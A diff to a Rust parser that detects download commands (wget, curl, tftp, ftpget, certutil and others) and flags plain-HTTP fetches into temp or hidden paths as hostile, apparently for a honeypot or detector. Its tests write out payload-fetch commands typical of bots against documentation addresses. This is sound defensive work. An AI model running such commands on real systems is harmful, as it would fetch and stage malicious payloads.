@@ -137,12 +137,17 @@ fn same_file(a: &str, b: &str) -> bool {
 
 /// An interpreter that is given no script of its own.
 fn reads_stdin(command: &Command<'_>) -> bool {
-    command.is_interpreter() && command.args().next().is_none_or(|arg| arg.starts_with('-') && arg != "-c" && arg != "-e")
+    let first = command.args().next();
+    // `perl -ne`, `python -m`: programs that only read the data.
+    (command.is_shell() && first.is_none_or(|arg| arg.starts_with('-') && arg != "-c"))
+        || (command.is_interpreter() && first.is_none_or(|arg| arg == "-"))
 }
 
 fn plain_http_to_dropzone(url: &str, path: &str) -> bool {
     let (scheme, host, _) = url_parts(url);
-    !scheme.eq_ignore_ascii_case("https") && !is_loopback(host) && (in_temp(path) || (path.starts_with('/') && is_hidden(path)))
+    !scheme.eq_ignore_ascii_case("https")
+        && !is_loopback(host)
+        && (in_temp(path) || (path.starts_with('/') && is_hidden(path)))
 }
 
 fn is_hostile(url: &str, command: &Command<'_>) -> bool {
@@ -160,21 +165,22 @@ pub(crate) fn download(command: &Command<'_>) -> Option<Download> {
     let (url, target) = match program.as_str() {
         "wget" | "wget2" | "curl" | "lwp-download" | "lwp-request" | "fetch" | "axel" | "aria2c" => {
             let url = url().or_else(|| bare_address(command))?;
-            (url, saved_as(command, program != "curl" && program != "lwp-request", url))
+            (url.to_owned(), saved_as(command, program != "curl" && program != "lwp-request", url))
         }
         "tftp" | "atftp" => {
             let remote = value_of(command, "-r").or_else(|| value_after(command, "get"))?;
-            let host = command.operands().find(|arg| is_ip(arg)).unwrap_or(remote);
-            (host, Some(value_of(command, "-l").unwrap_or(remote).to_owned()))
+            let host = command.operands().find(|arg| is_ip(arg)).unwrap_or_default();
+            (format!("tftp://{host}/{remote}"), Some(value_of(command, "-l").unwrap_or(remote).to_owned()))
         }
         "ftpget" => {
             let host = command.args().find(|arg| is_ip(arg))?;
-            let local = command.args().skip_while(|arg| *arg != host).nth(1)?;
-            (host, Some(local.to_owned()))
+            let mut files = command.args().skip_while(|arg| *arg != host).skip(1);
+            let local = files.next()?;
+            (format!("ftp://{host}/{}", files.next().unwrap_or(local)), Some(local.to_owned()))
         }
         "certutil" | "bitsadmin" => {
             let url = url()?;
-            (url, command.args().skip_while(|arg| *arg != url).nth(1).map(str::to_owned))
+            (url.to_owned(), command.args().skip_while(|arg| *arg != url).nth(1).map(str::to_owned))
         }
         "powershell" | "pwsh" => return powershell_download(command),
         // Bots rename wget and curl; their options stay.
@@ -184,11 +190,12 @@ pub(crate) fn download(command: &Command<'_>) -> Option<Download> {
             if !is_wget && value_of(command, "-o").is_none() {
                 return None;
             }
-            (url, saved_as(command, is_wget, url))
+            (url.to_owned(), saved_as(command, is_wget, url))
         }
         _ => return None,
     };
-    Some(Download { url: url.to_owned(), hostile: is_hostile(url, command), target: target.filter(|it| !it.is_empty()) })
+    let hostile = is_hostile(&url, command);
+    Some(Download { url, hostile, target: target.filter(|it| !it.is_empty()) })
 }
 
 /// `wget 192.0.2.1/x`: no scheme, but an address.
@@ -219,7 +226,9 @@ fn saved_as(command: &Command<'_>, is_wget: bool, url: &str) -> Option<String> {
         let Some(cluster) = arg.strip_prefix('-').filter(|it| !it.starts_with('-')) else { continue };
         if !is_wget && cluster.bytes().take_while(u8::is_ascii_alphabetic).any(|b| b == b'O') {
             remote_name = true;
-        } else if let Some(at) = cluster.find(letter).filter(|at| cluster.bytes().take(*at).all(|b| b.is_ascii_alphabetic())) {
+        } else if let Some(at) =
+            cluster.find(letter).filter(|at| cluster.bytes().take(*at).all(|b| b.is_ascii_alphabetic()))
+        {
             let name = match &cluster[at + 1..] {
                 "" => args.next()?,
                 name => name,
@@ -289,10 +298,13 @@ mod tests {
         check("curl -sLo /tmp/x https://a.test/i", Some(("https://a.test/i", Some("/tmp/x"), false)));
         check("curl 192.0.2.9/i > y", Some(("192.0.2.9/i", Some("y"), true)));
         check("wget -P /tmp http://a.test/.y/b", Some(("http://a.test/.y/b", Some("/tmp/b"), true)));
-        check("tftp -g -r mips -l /tmp/m 192.0.2.7", Some(("192.0.2.7", Some("/tmp/m"), true)));
-        check("tftp 192.0.2.7 -c get t.sh", Some(("192.0.2.7", Some("t.sh"), true)));
-        check("ftpget -u anonymous 192.0.2.7 a.sh b.sh", Some(("192.0.2.7", Some("a.sh"), true)));
-        check(r"certutil.exe -urlcache -split -f http://a.test/x C:\x.exe", Some(("http://a.test/x", Some(r"C:\x.exe"), true)));
+        check("tftp -g -r mips -l /tmp/m 192.0.2.7", Some(("tftp://192.0.2.7/mips", Some("/tmp/m"), true)));
+        check("tftp 192.0.2.7 -c get t.sh", Some(("tftp://192.0.2.7/t.sh", Some("t.sh"), true)));
+        check("ftpget -u anonymous 192.0.2.7 a.sh b.sh", Some(("ftp://192.0.2.7/b.sh", Some("a.sh"), true)));
+        check(
+            r"certutil.exe -urlcache -split -f http://a.test/x C:\x.exe",
+            Some(("http://a.test/x", Some(r"C:\x.exe"), true)),
+        );
         check("cd1 -fsSL http://a.test/x -o /tmp/y", Some(("http://a.test/x", Some("/tmp/y"), false)));
         check("git clone https://a.test/x", None);
         check("wget --version", None);
